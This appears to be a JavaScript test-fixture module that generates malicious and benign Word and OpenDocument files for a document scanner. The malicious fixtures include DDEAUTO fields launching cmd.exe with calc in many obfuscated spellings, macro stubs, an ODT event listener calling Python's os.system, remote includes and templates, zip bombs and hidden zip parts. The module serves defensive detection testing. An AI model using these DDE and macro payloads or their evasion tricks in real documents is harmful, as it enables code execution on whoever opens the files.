// Text documents of word processors: fields that reach out, workbooks behind charts, other files behind
// those, each danger in each way of writing it; and what honest writers make of the same.
import { zip } from './files.mjs';

const KIND = 'application/vnd.openxmlformats-officedocument.';
const WORD = `${KIND}wordprocessingml.document.main+xml`;
const SHEET = `${KIND}spreadsheetml.sheet.main+xml`;
const SLIDES = `${KIND}presentationml.presentation.main+xml`;
const ODT = 'application/vnd.oasis.opendocument.text';

export const types = (main = WORD, part = '/word/document.xml') =>
  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  `<Override PartName="${part}" ContentType="${main}"/></Types>`;

/** A docx with this text and more parts. */
export const word = (more = [], flags = 0, body = 'Plan') =>
  zip([['[Content_Types].xml', types()], ['_rels/.rels', '<Relationships/>'], ['word/document.xml', `<w:document>${body}</w:document>`], ...more], flags);

/** An odt with this text and more parts. */
export const open = (more = [], flags = 0, body = '', manifest = '<manifest:manifest/>') =>
  zip([['mimetype', ODT, true], ['content.xml', `<office:document-content>${body}</office:document-content>`], ['META-INF/manifest.xml', manifest], ...more], flags);

export const relations = (type, target, mode = 'External', q = '"') =>
  `<?xml version="1.0"?><Relationships><Relationship Id=${q}r1${q} Type=${q}http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}${q} Target=${q}${target}${q} TargetMode=${q}${mode}${q}/></Relationships>`;

/** A workbook, a presentation: what a chart or a slide is made from. */
export const sheet = (more = [], flags = 0, main = SHEET) =>
  zip([['[Content_Types].xml', types(main, '/xl/workbook.xml')], ['_rels/.rels', '<Relationships/>'], ['xl/workbook.xml', '<workbook><sheets/></workbook>'],
    ['xl/worksheets/sheet1.xml', '<worksheet><sheetData><row><c><v>3</v></c></row></sheetData></worksheet>'], ...more], flags);
const slides = (more = []) =>
  zip([['[Content_Types].xml', types(SLIDES, '/ppt/presentation.xml')], ['ppt/presentation.xml', '<p:presentation/>'], ...more]);

const XLSX = 'word/embeddings/Microsoft_Excel_Worksheet.xlsx';
const chart = ['word/charts/chart1.xml', '<c:chartSpace><c:externalData r:id="rId1"><c:autoUpdate val="0"/></c:externalData></c:chartSpace>'];
const chartRels = ['word/charts/_rels/chart1.xml.rels', relations('package', '../embeddings/Microsoft_Excel_Worksheet.xlsx', 'Internal')];
const charted = (inner, name = XLSX) => word([chart, chartRels, [name, inner, true]]);

const mark = (type) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const told = (text) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
const field = (inside, result = 'x') => `<w:p>${mark('begin')}${inside}${mark('separate')}<w:r><w:t>${result}</w:t></w:r>${mark('end')}</w:p>`;
const CALC = 'c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;';
const codes = (text) => [...text].map((c) => c.charCodeAt(0)).join(' ');

/** The ways of writing a field that begins with `word`: [how, XML]. */
const WAYS = (name, rest) => [
  ['', field(told(` ${name} ${rest} `))],
  [', in small letters', field(told(` ${name.toLowerCase()} ${rest} `))],
  [', a letter a piece', field([...`${name} ${rest}`].map((c) => told(c)).join(''))],
  [', in two pieces', field(told(name.slice(0, 2)) + told(`${name.slice(2)} ${rest}`))],
  [', its letters by their numbers', field(told([...name].map((c) => `&#${c.charCodeAt(0)};`).join('') + ` ${rest}`))],
  [', by long numbers', field(told([...name].map((c) => `&#x000000${c.charCodeAt(0).toString(16)};`).join('') + ` ${rest}`))],
  [', not read as tags', field(told(`<![CDATA[${name}]]> ${rest}`))],
  [', around a comment', field(told(`${name.slice(0, 1)}<!-- x -->${name.slice(1)} ${rest}`))],
  [', in quotes', field(told(` "${name}" ${rest} `))],
  [', after a thousand blanks', field(told(' '.repeat(3000)) + told(`${name} ${rest}`))],
  [', with its namespace called otherwise', field(told(`${name} ${rest}`)).replaceAll('w:', 'ns0:')],
  [', without a result', `${mark('begin')}${told(`${name} ${rest}`)}${mark('end')}`],
  [', without an end', `${mark('begin')}${told(`${name} ${rest}`)}`],
  [', in one piece', `<w:fldSimple w:instr=" ${name} ${rest.replaceAll('"', '&quot;')} "><w:r><w:t>x</w:t></w:r></w:fldSimple>`],
  [', in one piece, in other quotes', `<w:fldSimple x='>' w:instr='${name} ${rest}'/>`],
  [', in another field', field(told(' IF 1 = 1 ') + field(told(` ${name} ${rest} `)))],
  [', in text that was struck', field(`<w:del><w:r><w:delInstrText>${name} ${rest}</w:delInstrText></w:r></w:del>`)],
];

function hostileFields() {
  const rows = [];
  const add = (what, code, body, more = []) => rows.push([what, 'plan.docx', word(more, 0, body), code]);
  for (const [how, body] of WAYS('DDEAUTO', CALC)) add(`DDE by itself${how}`, 'dde', body);
  for (const [how, body] of WAYS('DDE', `${CALC} x`)) add(`DDE${how}`, 'dde', body);
  for (const [how, body] of WAYS('LINK', 'Excel.Sheet.12 "http://x.example/a.xlsx" "A1" \\a')) add(`a link into a workbook${how}`, 'remote_content', body);
  for (const [how, body] of WAYS('INCLUDETEXT', '"http://x.example/a.docx"')) add(`text from elsewhere${how}`, 'remote_content', body);
  add('text from a share', 'remote_content', field(told(' INCLUDETEXT "\\\\\\\\x.example\\\\a.docx" ')));
  add('a first word that is put together', 'not_inspectable', field(field(told(` QUOTE ${codes('DDEAUTO')} `), 'DDEAUTO') + told(` ${CALC}`)));
  add('half a word that is put together', 'not_inspectable', field(told('DD') + field(told(` QUOTE ${codes('EAUTO')} `), 'EAUTO') + told(` ${CALC}`)));
  add('a result that is an instruction', 'dde', field(`<w:r><w:t>DDEAUTO ${CALC}</w:t></w:r>`));
  add('forty fields in each other', 'not_inspectable', `${mark('begin')}${told('IF ')}`.repeat(40));
  add('a declaration in the text', 'not_inspectable', `<!DOCTYPE x [<!ENTITY d "DDEAUTO">]>${field(told('&d; x'))}`);
  add('DDE in what says it is a drawing', 'not_inspectable', 'Plan', [['word/header1.xml', `<!DOCTYPE svg [<!ENTITY d "DDEAUTO">]><w:hdr>${field(told('&d; x'))}</w:hdr>`]]);
  for (const part of ['word/header1.xml', 'word/footer1.xml', 'word/footnotes.xml', 'word/comments.xml', 'word/glossary/document.xml', 'word/anders.bin'])
    add(`DDE in ${part}`, 'dde', 'Plan', [[part, `<w:hdr>${field(told(` DDEAUTO ${CALC} `))}</w:hdr>`]]);
  const two = `<?xml version="1.0" encoding="UTF-16"?><w:hdr>${field(told(` DDEAUTO ${CALC} `))}</w:hdr>`;
  const little = Buffer.from(`\ufeff${two}`, 'utf16le');
  add('DDE in two bytes a letter', 'dde', 'Plan', [['word/header1.xml', little]]);
  add('DDE in two bytes a letter, the other way', 'dde', 'Plan', [['word/header1.xml', Buffer.from(little).swap16()]]);
  add('DDE in two bytes a letter, unmarked', 'dde', 'Plan', [['word/header1.xml', Buffer.from(two, 'utf16le')]]);
  add('DDE behind blanks', 'dde', 'Plan', [['word/header1.xml', `${' '.repeat(70000)}<w:hdr>${field(told('DDE x'))}</w:hdr>`]]);
  add('DDE far into a part', 'dde', `${'<w:p/>'.repeat(100000)}${field(told('DDE x'))}`);
  add('letters of an unknown kind', 'not_inspectable', 'Plan', [['word/header1.xml', '<?xml version="1.0" encoding="utf-7"?><w:hdr/>']]);
  for (const at of ['word/charts/_rels/chart1.xml.rels', 'word/_rels/document.xml.rels'])
    add(`a page taken in (${at})`, 'embedded_files', 'Plan', [[at, relations('aFChunk', 'deel.bin', 'Internal')], ['word/deel.bin', 'From: x\nContent-Type: text/html\n']]);
  add('letters to many, from elsewhere', 'remote_content', 'Plan', [['word/_rels/settings.xml.rels', relations('mailMergeSource', 'http://x.example/a.xlsx')]]);
  return rows;
}

function hostilePackages() {
  const rows = [];
  const add = (what, code, inner, name = XLSX) => rows.push([`${what} behind a chart`, 'plan.docx', charted(inner, name), code]);
  add('macros', 'macros', sheet([['xl/vbaProject.bin', 'Sub Auto_Open']]));
  add('old macros', 'macros', sheet([['xl/macrosheets/sheet1.xml', '<xm:macrosheet/>']]));
  add('a list of types that admits macros', 'macros', sheet([], 0, 'application/vnd.ms-excel.sheet.macroEnabled.main+xml'));
  add('a control', 'macros', sheet([['xl/activeX/activeX1.bin', 'x']]));
  add('DDE', 'dde', sheet([['xl/externalLinks/externalLink1.xml', '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>']]));
  add('a database asked at opening', 'remote_content', sheet([['xl/connections.xml', '<connections><connection id="1" refreshOnLoad="1"><dbPr/></connection></connections>']]));
  add('numbers from elsewhere', 'remote_content', sheet([['xl/externalLinks/_rels/externalLink1.xml.rels', relations('externalLinkPath', 'http://x.example/a.xlsx')]]));
  add('an object from elsewhere', 'remote_content', sheet([['xl/worksheets/_rels/sheet1.xml.rels', relations('oleObject', 'file:///x')]]));
  add('a program', 'embedded_files', sheet([['xl/media/image1.png', 'MZ\x90\0']]));
  add('an old document', 'embedded_files', sheet([['xl/embeddings/oleObject1.bin', Buffer.from('d0cf11e0a1b11ae100', 'hex')]]));
  add('a lock', 'locked', sheet([], 1));
  add('a path that leaves', 'embedded_files', sheet([['../../x', 'x']]));
  add('a bomb', 'unpacks_too_large', sheet([['xl/b.xml', Buffer.alloc(60 << 20, 0x20)]]));
  add('a zip that is no workbook', 'embedded_files', zip([['brief.txt', 'Beste']]));
  add('a workbook that is called a document', 'embedded_files', sheet(), 'word/embeddings/Document.docx');
  add('a workbook broken off', 'embedded_files', sheet().subarray(0, 300));
  add('something behind the workbook', 'embedded_files', Buffer.concat([sheet(), Buffer.from('MZ')]));
  add('a program called a workbook', 'embedded_files', Buffer.from('MZ\x90\0', 'latin1'));
  add('a workbook with macros by name', 'embedded_files', sheet(), 'word/embeddings/Blad.xlsm');
  add('a workbook that stands elsewhere', 'embedded_files', sheet(), 'word/media/image1.png');
  // each opens into the next
  const nest = (n) => (n === 0 ? sheet() : slides([[`ppt/embeddings/x.${n === 1 ? 'xlsx' : 'pptx'}`, nest(n - 1), true]]));
  rows.push(['four containers in each other', 'plan.docx', word([['word/embeddings/x.pptx', nest(2), true]]), 'embedded_files']);
  rows.push(['macros in the third container', 'plan.docx', word([['word/embeddings/x.pptx', slides([['ppt/embeddings/x.xlsx', sheet([['xl/vbaProject.bin', 'x']]), true]]), true]]), 'macros']);
  // none of them too large by itself
  const heavy = sheet([['xl/deel.xml', Buffer.alloc(15 << 20, '<row><c/></row>')]]);
  rows.push(['ten workbooks that unpack to too much together', 'plan.docx', word(Array.from({ length: 10 }, (_, i) => [`word/embeddings/b${i}.xlsx`, heavy, true])), 'unpacks_too_large']);
  const crowd = sheet(Array.from({ length: 900 }, (_, i) => [`xl/p${i}.xml`, 'x']));
  rows.push(['five workbooks of too many parts together', 'plan.docx', word(Array.from({ length: 5 }, (_, i) => [`word/embeddings/b${i}.xlsx`, crowd, true])), 'unpacks_too_large']);
  rows.push(['a workbook in an open document', 'plan.odt', open([['Object 1/blad.xlsx', sheet(), true]]), 'embedded_files']);
  return rows;
}

function hostileOpen() {
  const rows = [];
  const add = (what, code, body, more, manifest) => rows.push([what, 'plan.odt', open(more, 0, body, manifest), code]);
  add('DDE declared', 'dde', '<text:dde-connection-decls><text:dde-connection-decl office:name="a" office:dde-application="soffice" office:dde-topic="x" office:dde-item="y" office:automatic-update="true"/></text:dde-connection-decls>');
  add('DDE in a table', 'dde', '<table:dde-link><office:dde-source office:dde-application="cmd"/></table:dde-link>');
  add('DDE in a section', 'dde', '<text:section><office:dde-source office:dde-application="cmd"/></text:section>');
  add('DDE in the styles', 'dde', '', [['styles.xml', '<x><text:dde-connection/></x>']]);
  for (const event of ['dom:load', 'dom:mouseover'])
    add(`a script that waits for ${event}`, 'macros', `<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="${event}" xlink:href="vnd.sun.star.script:../../../program/python3/lib/os.py$system?language=Python&amp;location=share"/></office:event-listeners>`);
  for (const [name, target] of [['text:section-source', 'http://x.example/a.odt'], ['text:section-source', '//x.example/a.odt'], ['draw:object', 'https://x.example/a'], ['draw:object-ole', '\\\\x.example\\a'],
    ['draw:plugin', 'http://x.example/a.swf'], ['draw:applet', 'http://x.example/'], ['draw:floating-frame', 'http://x.example/'], ['draw:floating-frame', 'h&#116;tp&#58;//x.example/']])
    add(`${name} from ${target}`, 'remote_content', `<${name} xlink:href="${target}"/>`);
  add('a template from elsewhere', 'remote_content', '', [['meta.xml', '<office:meta><meta:template xlink:href="http://x.example/a.ott"/></office:meta>']]);
  add('a page that loads another', 'remote_content', '', [['meta.xml', '<office:meta><meta:auto-reload xlink:href="http://x.example/"/></office:meta>']]);
  add('behind a password', 'locked', '', [], '<manifest:manifest><manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data manifest:checksum="x"/></manifest:file-entry></manifest:manifest>');
  rows.push(['text that is no XML (odt)', 'plan.odt', zip([['mimetype', ODT, true], ['content.xml', Buffer.alloc(500, 0xe5)], ['META-INF/manifest.xml', '<manifest:manifest/>']]), 'damaged']);
  rows.push(['text that is no XML (docx)', 'plan.docx', zip([['[Content_Types].xml', types()], ['word/document.xml', Buffer.alloc(500, 0xe5)]]), 'damaged']);
  return rows;
}

/** What Word makes of a document behind a password: another kind of container. */
function lockedWord() {
  const name = (text) => Buffer.concat([Buffer.from(text, 'utf16le'), Buffer.alloc(128 - 2 * text.length)]);
  const head = Buffer.alloc(512);
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(head);
  head[30] = 9;
  head.writeUInt32LE(3, 48);
  return Buffer.concat([head, Buffer.alloc(1536, 7), name('Root Entry'), name('DataSpaces'), name('EncryptionInfo'), name('EncryptedPackage'), Buffer.alloc(2048, 9)]);
}

/** A part that only those see who read from the front. */
function hiddenPart() {
  const whole = word();
  const at = whole.indexOf('PK\x01\x02');
  const hidden = zip([['word/vbaProject.bin', 'Sub AutoOpen']]);
  const part = hidden.subarray(0, hidden.indexOf('PK\x01\x02'));
  const copy = Buffer.concat([whole.subarray(0, at), part, whole.subarray(at)]);
  copy.writeUInt32LE(at + part.length, copy.length - 6);
  return copy;
}

export const hostileOffice = () => [
  ...hostileFields(), ...hostilePackages(), ...hostileOpen(),
  ['a document that Word put behind a password', 'plan.docx', lockedWord(), 'locked'],
  ['a part that is not in the directory', 'plan.docx', hiddenPart(), 'embedded_files'],
];

/** [what, file name, bytes]. */
export function honestOffice() {
  const rows = [];
  const add = (what, bytes) => rows.push([what, 'plan.docx', bytes]);
  const also = (what, body, more) => rows.push([what, 'plan.odt', open(more, 0, body)]);
  for (const [what, instruction] of [['a page number', ' PAGE '], ['a contents', ' TOC \\o "1-3" \\h \\z \\u '], ['a date', ' DATE \\@ "d MMMM yyyy" '], ['a link', ' HYPERLINK "https://www.vdab.be" '],
    ['a name', ' MERGEFIELD Naam '], ['a reference', ' REF _Ref1 \\h '], ['a picture on the drive', ' INCLUDEPICTURE "C:\\\\Logo.png" '], ['text beside it', ' INCLUDETEXT "bijlage.docx" '], ['a sum', ' = 2 + 2 '],
    ['a word that begins so', ' DDELIJST '], ['a quote', ' QUOTE &quot;DDE x&quot; '], ['an author', ' AUTHOR DDE ']]) {
    add(`${what}`, word([], 0, field(told(instruction))));
    add(`${what}, in one piece`, word([], 0, `<w:fldSimple w:instr="${instruction.replaceAll('"', '&quot;')}"/>`));
  }
  add('a field in a field', word([], 0, field(told(' IF ') + field(told(' MERGEFIELD Naam ')) + told(' = "" "niemand" '))));
  add('a sum of a field', word([], 0, field(told(' = ') + field(told(' PAGE ')) + told(' - 1 '))));
  add('text about DDE', word([], 0, '<w:p><w:r><w:t>DDEAUTO c:\\windows is gevaarlijk; LINK en INCLUDETEXT ook</w:t></w:r></w:p>'));
  add('a comment between tags', word([], 0, '<!-- gemaakt door een ander programma --><w:p/>'));
  add('properties in two bytes a letter', word([['customXml/item1.xml', Buffer.from('\ufeff<?xml version="1.0" encoding="utf-16"?><etiket/>', 'utf16le')]]));
  const svg = (more) => [['word/media/image1.svg', `<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"${more}><svg/>`]];
  add('a drawing that names its kind', word(svg('')));
  add('a drawing with words of its own', word(svg(' [<!ENTITY ns_svg "http://www.w3.org/2000/svg"><!ENTITY ns_xlink "http://www.w3.org/1999/xlink">]')));
  add('a long drawing', word([['word/tekening.xml', `<v:shape o:gfxdata="${'A'.repeat(200000)}"/>`]]));
  add('a chart', charted(sheet()));
  add('a chart of another writer', charted(sheet(), 'word/embeddings/Microsoft_Office_Excel_Worksheet1.xlsx'));
  add('a chart of a library', charted(sheet(), 'word/charts/embeddings/package.bin'));
  add('ten charts', word(Array.from({ length: 10 }, (_, i) => [`word/embeddings/blad${i}.xlsx`, sheet(), true])));
  add('a chart with pictures', charted(sheet([['xl/media/image1.png', Buffer.from('89504e470d0a1a0a', 'hex'), true]])));
  add('a chart from a table that links to one beside it', charted(sheet([['xl/externalLinks/_rels/externalLink1.xml.rels', relations('externalLinkPath', 'cijfers.xlsx')]])));
  add('a large chart', charted(sheet([['xl/worksheets/sheet2.xml', `<worksheet>${'<row><c><v>12</v></c></row>'.repeat(200000)}</worksheet>`]])));
  add('a slide', word([['word/embeddings/Microsoft_PowerPoint_Slide.pptx', slides(), true]]));
  add('a document in it', word([['word/embeddings/Microsoft_Word_Document.docx', word(), true]]));
  add('a chart on a slide', word([['word/embeddings/x.pptx', slides([['ppt/embeddings/x.xlsx', sheet(), true]]), true]]));
  add('letters to many, from a table beside it', word([['word/_rels/settings.xml.rels', relations('mailMergeSource', 'file:///C:\\Klanten.xlsx')]]));
  also('a chart of its own', '<draw:object xlink:href="./Object 1" xlink:type="simple"/>', [['Object 1/content.xml', '<x/>']]);
  also('a template of the system', '', [['meta.xml', '<office:meta><meta:template xlink:href="/usr/lib/libreoffice/share/template/brief.ott"/></office:meta>']]);
  also('a template of its writer', '', [['meta.xml', '<office:meta><meta:template xlink:href="../../.config/libreoffice/4/user/template/brief.ott"/></office:meta>']]);
  rows.push(['a list of parts as older offices write it', 'plan.odt', open([], 0, '', '<?xml version="1.0"?><!DOCTYPE manifest:manifest PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd"><manifest:manifest/>')]);
  also('no scripts', '<office:scripts/>');
  also('a link that somebody clicks', '<text:a xlink:href="https://www.vdab.be">VDAB</text:a>');
  also('a picture from elsewhere', '<draw:image xlink:href="https://www.vdab.be/logo.png"/>');
  also('text about DDE', '<text:p>dde-link en dde-source</text:p>');
  return rows;
}
